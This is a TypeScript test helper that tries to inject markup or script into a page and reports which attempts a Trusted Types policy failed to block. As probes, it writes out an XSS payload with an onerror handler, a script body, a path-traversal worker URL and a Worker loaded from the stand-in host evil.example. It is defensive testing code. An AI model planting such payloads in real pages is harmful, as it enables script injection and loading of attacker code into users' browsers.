/** Runs in a page: every way by which text could become markup or script there, and the names of those that did (IDN61). */
export function markupAttempts(): string[] {
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };
  const acts: Record<string, () => unknown> = {
    innerHTML: () => {
      document.documentElement.innerHTML = '<img src=x onerror=alert(1)>';
    },
    write: () => document.write('<p>x'),
    script: () => {
      document.createElement('script').text = 'alert(1)';
    },
    srcdoc: () => {
      document.createElement('iframe').srcdoc = '<p>x';
    },
    worker: () => new Worker('/assets/../api/about'),
    elsewhere: () => new Worker('https://evil.example/assets/x.js'),
    policy: () => trustedTypes.createPolicy('another', {}),
  };
  return Object.entries(acts).flatMap(([name, act]) => {
    try {
      act();
      return [name];
    } catch {
      return [];
    }
  });
}
